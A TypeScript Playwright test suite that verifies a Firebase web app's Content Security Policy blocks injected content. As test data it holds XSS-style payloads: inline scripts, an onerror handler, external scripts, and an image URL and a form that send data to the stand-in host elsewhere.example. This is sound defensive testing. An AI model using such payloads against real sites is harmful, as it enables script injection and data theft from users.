import type { Browser, BrowserContext, Page } from 'playwright-core'
import { readFileSync } from 'node:fs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { allowLocal } from '../../scripts/lib/firebase-config'
import { root } from '../../scripts/lib/project'
import { launchBrowser } from '../support/browser'
import { noteVisits, outboxOf, waitForHouses } from '../support/outbox'
import { signInAs } from '../support/phone'
import { routePatterns } from '../support/routes'
import { ports, url } from '../support/stack'
import { watchViolations } from '../support/violations'

const { hosting } = JSON.parse(readFileSync(`${root}/firebase.json`, 'utf8')) as { hosting: { headers: { source: string, headers: { key: string, value: string }[] }[] } }
const production = Object.fromEntries(hosting.headers.find(({ source }) => source === '**')!.headers.map(({ key, value }) => [key.toLowerCase(), value]))
const policy = production['content-security-policy']!

let browser: Browser
beforeAll(async () => void (browser = await launchBrowser()))
afterAll(() => browser.close())

describe('the policy of production', () => {
  const directives = Object.fromEntries(policy.split('; ').map((directive) => {
    const [name, ...sources] = directive.split(' ')
    return [name!, sources]
  }))

  it('begins with nothing and lets in by name', () => {
    expect(directives).toMatchObject({ 'default-src': ['\'none\''], 'object-src': ['\'none\''], 'base-uri': ['\'none\''], 'form-action': ['\'none\''], 'frame-ancestors': ['\'none\''], 'style-src': ['\'self\''], 'worker-src': ['\'self\''], 'manifest-src': ['\'self\''] })
    expect(policy).not.toMatch(/unsafe|\*|http:/)
  })

  it('names the functions of the project that is deployed', () => {
    const { projects } = JSON.parse(readFileSync(`${root}/.firebaserc`, 'utf8')) as { projects: { default: string } }
    expect(directives['connect-src']!.filter(source => source.endsWith('.cloudfunctions.net'))).toEqual([`https://asia-southeast1-${projects.default}.cloudfunctions.net`])
  })

  it('is what is served here but for the local ports, with every other header', async () => {
    for (const path of ['/', '/ho', '/sw.js', '/manifest.webmanifest']) {
      const { headers } = await fetch(`${url}${path}`)
      const expected = { ...production, 'content-security-policy': allowLocal(policy, [ports.firestore, ports.auth, ports.functions]) }
      expect(Object.fromEntries(Object.keys(expected).map(key => [key, headers.get(key)]))).toEqual(expected)
    }
  })
})

/** An address for each route, and what shows that the page is there. */
const SEEN = 'main h1, main h2'
const AT_PHONE = ['/', '/ho', '/ho/moi', '/ho/:id', '/ho/:id/sua', '/ho/:id/ghi', '/ghi', '/ghi/:kind', '/so-gui', '/bao-cao', '/them', '/to', '/noi']
const AT_DESK: Record<string, string> = { '/tong-quan/:unit?': '/tong-quan/14-2023', '/to/:id': '/to/t-04123-2023-b1' }
const OPEN = ['/dang-nhap', '/ma']

describe('every page keeps to the policy', () => {
  it('is asked for each route there is', () => {
    expect(routePatterns().filter(path => ![...AT_PHONE, ...Object.keys(AT_DESK), ...OPEN].includes(path))).toEqual([])
  })

  it('at the door and at the phone', async () => {
    const { context, found, open } = await newVisitor({ width: 360, height: 740 })
    for (const path of OPEN)
      await open(path)
    const page = await signInAs(context, 'Quàng Văn Inh')
    await waitForHouses(page)
    const house = await page.locator('main a[href^="/ho/h"]').first().getAttribute('href')
    for (const path of AT_PHONE)
      await open(path.replace('/ho/:id', /^\/ho\/[\w-]+/.exec(house!)![0]).replace(':kind', 'session'), page)
    await noteVisits(page, 1)
    await expect.poll(() => outboxOf(page).then(sent => sent.map(({ state }) => state)), { timeout: 30_000 }).toEqual(['received'])
    expect(found).toEqual([])
    await context.close()
  })

  it('at the desk', async () => {
    const { context, found, open } = await newVisitor({ width: 1440, height: 900 })
    const page = await signInAs(context, 'Phạm Thu Uyên')
    for (const path of Object.values(AT_DESK))
      await open(path, page)
    await page.goto('/tong-quan')
    await page.locator('[data-part=children]').waitFor()
    expect(found).toEqual([])
    await context.close()
  })
})

describe('what is slipped into a page', () => {
  let page: Page
  let found: string[]
  beforeAll(async () => {
    const visitor = await newVisitor({ width: 1024, height: 768 })
    found = visitor.found
    page = await visitor.open('/dang-nhap')
    await page.evaluate(() => Object.assign(globalThis, { ran: [] }))
  })
  afterAll(() => page.context().close())

  it.each<[string, string, string]>([
    ['a script in the page', '<script>ran.push(1)</script>', 'script-src-elem inline'],
    ['a handler in markup', '<img src="/none.png" onerror="ran.push(1)">', 'script-src-attr inline'],
    ['a script from elsewhere', '<script src="https://elsewhere.example/a.js"></script>', 'script-src-elem https://elsewhere.example/a.js'],
    ['a script of Google\'s that is not reCAPTCHA', '<script src="https://www.google.com/jsapi"></script>', 'script-src-elem https://www.google.com/jsapi'],
    ['a style in markup', '<p style="color: red">a</p>', 'style-src-attr inline'],
    ['a picture that carries data away', '<img src="https://elsewhere.example/?stolen">', 'img-src https://elsewhere.example/?stolen'],
    ['a frame', '<iframe src="https://elsewhere.example/"></iframe>', 'frame-src https://elsewhere.example'],
    ['an object', '<object data="https://elsewhere.example/a.swf" type="application/x-shockwave-flash"></object>', 'object-src https://elsewhere.example'],
    ['another base', '<base href="https://elsewhere.example/">', 'base-uri https://elsewhere.example'],
  ])('%s does not run', async (_, markup, violation) => {
    const before = found.length
    await page.evaluate((markup) => {
      // innerHTML runs no script: each element is made anew, as a script that was injected would.
      const parsed = new DOMParser().parseFromString(markup, 'text/html')
      const [given] = [...parsed.head.children, ...parsed.body.children]
      const element = document.createElement(given!.localName)
      element.textContent = given!.textContent
      for (const { name, value } of given!.attributes)
        element.setAttribute(name, value)
      document.body.append(element)
    }, markup)
    await expect.poll(() => found.slice(before).some(text => text.startsWith(violation)), { timeout: 5000 }).toBe(true)
    expect(await page.evaluate(() => (globalThis as unknown as { ran: unknown[] }).ran)).toEqual([])
  })

  it('text is not run as a script, and no form or request leads elsewhere', async () => {
    const tried = await page.evaluate(async () => {
      // Playwright's own scripts may; what a timer starts is the page's.
      const ran = await new Promise<boolean>(resolve => setTimeout(() => {
        try {
          // eslint-disable-next-line no-new-func
          resolve(new Function('return true')())
        }
        catch {
          resolve(false)
        }
      }))
      const sent = await fetch('https://elsewhere-asia-southeast1.cloudfunctions.net/', { method: 'POST', body: 'x' }).then(() => true, () => false)
      const form = document.body.appendChild(document.createElement('form'))
      form.action = 'https://elsewhere.example/'
      form.submit()
      return { ran, sent }
    })
    expect(tried).toEqual({ ran: false, sent: false })
    await expect.poll(() => found.filter(text => /^(?:script-src eval|connect-src https:\/\/elsewhere|form-action https:\/\/elsewhere)/.test(text)).length, { timeout: 5000 }).toBe(3)
    expect(page.url()).toBe(`${url}/dang-nhap`)
  })

  it('reCAPTCHA may load, for the message with the code is asked for through it', async () => {
    await page.route('https://www.google.com/recaptcha/**', route => route.fulfill({ contentType: 'text/javascript', body: 'ran.push("recaptcha")' }))
    await page.addScriptTag({ url: 'https://www.google.com/recaptcha/enterprise.js?render=explicit' })
    expect(await page.evaluate(() => (globalThis as unknown as { ran: unknown[] }).ran)).toEqual(['recaptcha'])
  })

  it('and no other site frames it', async () => {
    const other = await page.context().newPage()
    await other.route('https://elsewhere.example/', route => route.fulfill({ contentType: 'text/html', body: `<iframe src="${url}/"></iframe>` }))
    await other.goto('https://elsewhere.example/')
    await expect.poll(() => other.frames().map(frame => frame.url()), { timeout: 5000 }).toContain('chrome-error://chromewebdata/')
  })
})

async function newVisitor(viewport: { width: number, height: number }): Promise<{ context: BrowserContext, found: string[], open: (path: string, page?: Page) => Promise<Page> }> {
  const context = await browser.newContext({ baseURL: url, viewport, locale: 'vi-VN', timezoneId: 'Asia/Ho_Chi_Minh' })
  const found = await watchViolations(context)
  const first = await context.newPage()
  return {
    context,
    found,
    async open(path, page = first) {
      await page.goto(path)
      await page.locator(SEEN).first().waitFor()
      return page
    },
  }
}
